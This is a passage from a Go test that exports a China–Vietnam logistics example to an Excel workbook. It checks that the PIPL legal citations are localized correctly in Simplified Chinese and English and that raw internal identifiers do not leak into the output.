		if ex.name == "logistics-china-vietnam" {
			doc = ex.doc
		}
	}
	if doc == nil {
		t.Fatal("example logistics-china-vietnam missing")
	}
	for _, tc := range []struct {
		lang       string
		want, deny []string
	}{
		{i18n.SimplifiedChinese, []string{"《中华人民共和国个人信息保护法》第", "《个人信息保护法》", "中国（CN）"}, []string{"cn_pipl", "CN_PIPL"}},
		{i18n.English, []string{"PIPL Art.", "China PIPL", "China (CN)"}, []string{"《"}},
	} {
		t.Run(tc.lang, func(t *testing.T) {
			f := openXLSX(t, writeXLSXBytes(t, doc, cats.Get(tc.lang)))
			var all strings.Builder
			for _, sheet := range f.GetSheetList() {
				rows, err := f.GetRows(sheet)
				if err != nil {
					t.Fatal(err)
				}
				for _, r := range rows {
					all.WriteString(strings.Join(r, "\t") + "\n")
				}
			}
			text := all.String()
			for _, w := range tc.want {
				if !strings.Contains(text, w) {
					t.Errorf("workbook lacks %q", w)
				}
			}
			for _, d := range tc.deny {
				if i := strings.Index(text, d); i >= 0 {
					t.Errorf("workbook shows %q: …%s…", d, text[max(0, i-80):min(len(text), i+80)])
				}
			}
		})
	}
}
